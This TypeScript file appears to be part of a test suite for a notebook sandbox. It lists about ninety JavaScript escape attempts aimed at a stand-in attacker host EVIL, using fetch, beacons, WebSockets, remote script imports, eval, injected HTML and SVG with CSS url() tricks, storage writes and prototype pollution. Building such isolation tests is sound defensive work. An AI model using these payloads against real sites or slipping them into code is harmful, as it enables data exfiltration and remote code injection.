/** An attempt to get out of a notebook's cell, in JavaScript; `EVIL` stands for the address of a listening stranger. */
export type WayOut = {name: string; script: string};

const ways: readonly (readonly [string, string])[] = [
  // The network.
  ["fetch", `await fetch(EVIL)`],
  ["fetch without CORS", `await fetch(EVIL, {mode: "no-cors"})`],
  ["fetch that outlives the page", `await fetch(EVIL, {keepalive: true, method: "POST", body: "x"})`],
  ["fetch of the site itself", `await fetch("/index.html?stolen")`],
  ["fetch by a request object", `await fetch(new Request(EVIL))`],
  ["fetch of a data address", `(await fetch("data:,x")).text()`],
  ["fetch of a blob", `await fetch(URL.createObjectURL(new Blob(["x"])))`],
  ["XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", EVIL, false); x.send()`],
  [
    "XMLHttpRequest later",
    `await new Promise((r) => { const x = new XMLHttpRequest(); x.open("GET", EVIL); x.onloadend = r; x.send(); })`
  ],
  [
    "WebSocket",
    `await new Promise((r) => { const s = new WebSocket(EVIL.replace("http", "ws")); s.onclose = s.onopen = r; })`
  ],
  ["EventSource", `await new Promise((r) => { const s = new EventSource(EVIL); s.onerror = s.onopen = r; })`],
  ["WebTransport", `await new WebTransport(EVIL.replace("http:", "https:")).ready`],
  ["beacon", `navigator.sendBeacon(EVIL, "x")`],
  ["WebRTC", `new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:9"}]}).createDataChannel("x")`],
  ["importScripts", `importScripts(EVIL)`],
  ["importScripts of the site", `importScripts("/sw.js")`],
  ["importScripts of a blob", `importScripts(URL.createObjectURL(new Blob(["self.out = 1"])))`],
  ["importScripts of a data address", `importScripts("data:text/javascript,self.out=1")`],
  ["import()", `await import(EVIL)`],
  ["import() of a made address", `await import(["h", "ttp"].join("") + EVIL.slice(4))`],
  ["import() of a data address", `await import("data:text/javascript,export default 1")`],
  ["font", `await new FontFace("x", "url(" + EVIL + ")").load()`],
  ["image bitmap", `await createImageBitmap(await (await fetch(EVIL)).blob())`],
  ["cache", `await (await caches.open("x")).add(EVIL)`],
  // Other workers.
  ["a worker of the stranger", `new Worker(EVIL)`],
  ["a worker of the site", `new Worker("/sw.js")`],
  [
    "a worker within the worker that fetches",
    `await new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "').finally(() => postMessage(1))"]))); w.onmessage = w.onerror = r; })`
  ],
  [
    "a worker within the worker that imports",
    `await new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('" + EVIL + "') } catch {} postMessage(1)"]))); w.onmessage = w.onerror = r; })`
  ],
  ["a shared worker", `new SharedWorker(EVIL)`],
  ["a service worker", `await navigator.serviceWorker.register("/sw.js")`],
  ["background fetch", `await registration.backgroundFetch.fetch("x", [EVIL])`],
  // Where the page is.
  ["location", `self.location = EVIL`],
  ["location.href", `location.href = EVIL`],
  ["location.assign", `location.assign(EVIL)`],
  ["window.open", `window.open(EVIL)`],
  ["open", `open(EVIL)`],
  ["the parent's place", `parent.location = EVIL`],
  ["the top's place", `top.location.href = EVIL`],
  ["clients", `await clients.openWindow(EVIL)`],
  ["close", `self.parent.close()`],
  // What the browser keeps.
  ["localStorage", `localStorage.setItem("stolen", "1")`],
  ["sessionStorage", `sessionStorage.setItem("stolen", "1")`],
  ["cookie", `document.cookie = "stolen=1"; if (document.cookie !== "") throw document.cookie`],
  [
    "IndexedDB",
    `await new Promise((r, e) => { const o = indexedDB.open("wres-notebook"); o.onsuccess = r; o.onerror = e; })`
  ],
  ["all databases", `(await indexedDB.databases()).length`],
  ["the site's own files", `await (await navigator.storage.getDirectory()).getFileHandle("x", {create: true})`],
  ["caches of the site", `await caches.keys()`],
  ["a broadcast to the site", `new BroadcastChannel("wres").postMessage("stolen")`],
  ["locks", `await navigator.locks.request("x", () => 1)`],
  // The page.
  ["the parent's document", `parent.document.title = "stolen"`],
  ["a message to the parent", `parent.postMessage("stolen", "*")`],
  ["a message to the frame", `self.postMessage({type: "shown", stolen: true})`],
  [
    "a script in the light document",
    `const s = document.createElement("script"); s.src = EVIL; document.head.append(s)`
  ],
  ["an image in the light document", `const i = document.createElement("img"); i.src = EVIL; document.body.append(i)`],
  ["the opener", `opener.location = EVIL`],
  ["the frame that it stands in", `frameElement.src = EVIL`],
  // Code and prototypes.
  ["a function from text", `new Function("return fetch('" + EVIL + "')")()`],
  ["a function by its constructor", `await (async () => 1).constructor("return fetch('" + EVIL + "')")()`],
  ["eval", `await (0, eval)("fetch('" + EVIL + "')")`],
  ["a timer from text", `setTimeout("fetch('" + EVIL + "')", 0); await new Promise((r) => setTimeout(r, 50))`],
  ["the prototype of objects", `Object.prototype.stolen = 1`],
  ["the prototype of lists", `Array.prototype.map = () => ["stolen"]`],
  ["the port's own prototype", `MessagePort.prototype.postMessage = function (m) { return fetch(EVIL) }`],
  ["a getter on what is sent", `display({get value() { return fetch(EVIL) }})`],
  ["WebAssembly", `await WebAssembly.instantiateStreaming(fetch(EVIL))`],
  // What libraries can do.
  ["Arquero loads", `await aq.loadCSV(EVIL)`],
  ["Arquero fetches", `await aq.load(EVIL, {using: (x) => x})`],
  ["Arquero from a name of the page", `aq.from([{a: 1}], ["ownerDocument"]).objects()`],
  ["d3 fetches", `await d3.json(EVIL)`],
  ["d3 text", `await d3.text(EVIL)`],
  ["d3 image", `await d3.image(EVIL)`],
  ["Plot image", `Plot.plot({marks: [Plot.image([EVIL], {src: (d) => d, x: 1, y: 1})]})`],
  ["a statement that reads an address", `Inputs.table([])`],
  // Drawings and words.
  ["a script in a drawing", `display(svg\`<svg width=200><script>fetch("\${EVIL}")</script></svg>\`)`],
  ["a handler", `display(html\`<img src=x onerror=\${"fetch('" + EVIL + "')"}>\`)`],
  ["an image", `display(html\`<img src=\${EVIL}>\`)`],
  ["a set of images", `display(html\`<img srcset=\${EVIL + " 1x"}>\`)`],
  ["a poster", `display(html\`<video poster=\${EVIL}></video>\`)`],
  ["a frame", `display(html\`<iframe src=\${EVIL}></iframe>\`)`],
  ["a frame with its own page", `display(html\`<iframe srcdoc=\${"<img src=" + EVIL + ">"}></iframe>\`)`],
  ["a refresh", `display(html\`<meta http-equiv=refresh content=\${"0;url=" + EVIL}>\`)`],
  ["a base", `display(html\`<base href=\${EVIL}>\`)`],
  ["a style sheet", `display(html\`<link rel=stylesheet href=\${EVIL}>\`)`],
  ["a prefetch", `display(html\`<link rel=prefetch href=\${EVIL}>\`)`],
  ["a style element", `display(html\`<style>body { background: url(\${EVIL}) }</style>\`)`],
  ["a style", `display(html\`<p style=\${"background: url(" + EVIL + ")"}>x</p>\`)`],
  ["a form", `display(html\`<form action=\${EVIL}><button autofocus>Go</button></form>\`)`],
  ["an object", `display(html\`<object data=\${EVIL}></object>\`)`],
  ["a fill by address", `display(svg\`<svg width=200><rect fill=\${"URL(" + EVIL + ")"} width=9 height=9 /></svg>\`)`],
  [
    "a fill by an escaped address",
    `display(svg\`<svg width=200><rect fill=\${"u\\\\72l(" + EVIL + ")"} width=9 height=9 /></svg>\`)`
  ],
  [
    "a fill by a set of images",
    `display(svg\`<svg width=200><rect fill=\${"image-set('" + EVIL + "' 1x)"} width=9 height=9 /></svg>\`)`
  ],
  ["an image in a drawing", `display(svg\`<svg width=200><image href=\${EVIL} /></svg>\`)`],
  ["a use of another drawing", `display(svg\`<svg width=200><use href=\${EVIL + "#x"} /></svg>\`)`],
  ["HTML in a drawing", `display(svg\`<svg width=200><foreignObject><img src=\${EVIL} /></foreignObject></svg>\`)`],
  ["an animated address", `display(svg\`<svg width=200><a><animate attributeName=href to=\${EVIL} /></a></svg>\`)`],
  ["a link in script", `display(html\`<a href="javascript:fetch('\${EVIL}')">x</a>\`)`],
  ["a link to a stranger", `display(html\`<a href=\${EVIL} ping=\${EVIL}>x</a>\`)`]
];

/** Every way out that is tried, by name. */
export const waysOut: readonly WayOut[] = ways.map(([name, script]) => ({name, script}));
